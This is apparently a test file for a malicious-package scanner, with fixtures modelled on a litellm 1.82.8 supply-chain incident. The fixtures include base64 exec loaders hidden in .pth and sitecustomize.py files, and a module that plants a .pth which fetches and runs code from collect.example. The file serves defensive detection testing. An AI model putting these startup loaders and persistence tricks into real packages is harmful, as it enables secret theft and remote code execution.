import { disguisedPython, pythonIncident } from '../../support/incident-programs.ts'
import { type CaseProject, type PackageCase, pypi, wheel, wheelArtefact } from '../../support/package-case.ts'

const library = {
  'litellm/__init__.py': 'from .main import completion\n',
  'litellm/main.py': 'def completion(model, messages):\n    return {"model": model, "messages": messages}\n',
}
const before = wheel('litellm', '1.82.6', library)
const collector = pythonIncident('litellm 1.82.8')

/** A line that Python runs with every start. `chr(10)` stands for the end of lines, since a `.pth` has one line. */
function startLine(program: string): string {
  return `import base64; exec(base64.b64decode('${Buffer.from(program).toString('base64')}'))\n`
}

/** 34 KB, as the real one had: the collector, and many lines that do nothing. */
const large = startLine(`${collector}${'# keep the process list short\nretries = 3\n'.repeat(400)}`)

function litellm(files: Readonly<Record<string, string>>): CaseProject {
  return pypi('litellm', wheel('litellm', '1.82.8', { ...library, ...files }), { previous: before })
}

/** Code that runs with every start of Python, imported or not. */
export const pth: readonly PackageCase[] = [
  {
    id: 'litellm 1.82.8',
    incident:
      'litellm 1.82.8 on PyPI, March 2026: litellm_init.pth of 34 KB starts the interpreter again, which collects and stays',
    project: litellm({ 'litellm_init.pth': large }),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^With every start of the interpreter, reads .*the whole environment.* and sends it to collect\.example/,
      steps: ['litellm_init.pth:1'],
    },
    twin: litellm({ 'litellm-nspkg.pth': 'litellm_vendor\n' }),
  },
  {
    id: 'litellm 1.82.8, a line that only imports',
    incident: 'the same, the program in a module that the line imports',
    project: litellm({
      'litellm_init.pth': 'import _litellm_boot\n',
      '_litellm_boot.py': disguisedPython('lambda nests', collector),
    }),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^With every start of the interpreter, reads .* and sends it to collect\.example/,
      steps: ['_litellm_boot.py:1'],
    },
    twin: litellm({ 'litellm_coverage.pth': 'import coverage; coverage.process_startup()\n' }),
  },
  {
    id: 'sitecustomize',
    incident: 'the same in sitecustomize.py: what the interpreter imports by itself, texts enciphered',
    project: litellm({ 'sitecustomize.py': disguisedPython('enciphered texts', collector) }),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^With every start of the interpreter, reads .* and sends it to collect\.example/,
      steps: ['sitecustomize.py:11'],
    },
    twin: litellm({ 'sitecustomize.py': 'import sys\nsys.dont_write_bytecode = True\n' }),
  },
  {
    id: 'a .pth that another release writes',
    incident: 'the part that stays: a module writes a .pth into site-packages and runs no more by itself',
    project: pypi(
      'fast-settings',
      wheel('fast-settings', '1.3.1', {
        'fast_settings/__init__.py': `import base64, os, site
LINE = "import base64; exec(base64.b64decode('${Buffer.from("import urllib.request\nexec(urllib.request.urlopen('https://collect.example/n').read())").toString('base64')}'))"
target = os.path.join(site.getsitepackages()[0], "distutils-fix.pth")
if not os.path.exists(target):
    with open(target, "w") as f:
        f.write(LINE)
`,
      }),
      {
        previous: wheel('fast-settings', '1.3.0', { 'fast_settings/__init__.py': 'class Settings(dict):\n    pass\n' }),
      },
    ),
    expect: {
      verdict: 'block',
      story: 'persists',
      text: /^On import, makes sure to be started again \(python start\)/,
      steps: ['fast_settings/__init__.py:5'],
    },
    twin: pypi(
      'fast-settings',
      wheel('fast-settings', '1.3.1', {
        'fast_settings/__init__.py':
          'import site\nclass Settings(dict):\n    pass\ndef places():\n    return site.getsitepackages()\n',
      }),
      {
        previous: wheel('fast-settings', '1.3.0', { 'fast_settings/__init__.py': 'class Settings(dict):\n    pass\n' }),
      },
    ),
  },
]

/** Several artefacts of one release: only one of the wheels has the file. */
export const oneOfSeveral: PackageCase = {
  id: 'litellm, one wheel of three',
  incident: 'litellm 1.82.8, the file in one platform wheel only',
  project: pypi(
    'litellm',
    {
      version: '1.82.8',
      artefacts: [
        wheelArtefact('litellm', '1.82.8', library, { tag: 'cp312-cp312-manylinux_2_17_x86_64' }),
        wheelArtefact('litellm', '1.82.8', library, { tag: 'cp312-cp312-macosx_11_0_arm64' }),
        wheelArtefact('litellm', '1.82.8', { ...library, 'litellm_init.pth': large }, { tag: 'cp312-cp312-win_amd64' }),
      ],
    },
    { previous: before },
  ),
  expect: { verdict: 'block', story: 'steals-secrets', text: /^With every start of the interpreter/ },
  twin: pypi(
    'litellm',
    {
      version: '1.82.8',
      artefacts: ['cp312-cp312-manylinux_2_17_x86_64', 'cp312-cp312-win_amd64'].map((tag) =>
        wheelArtefact('litellm', '1.82.8', library, { tag }),
      ),
    },
    { previous: before },
  ),
}
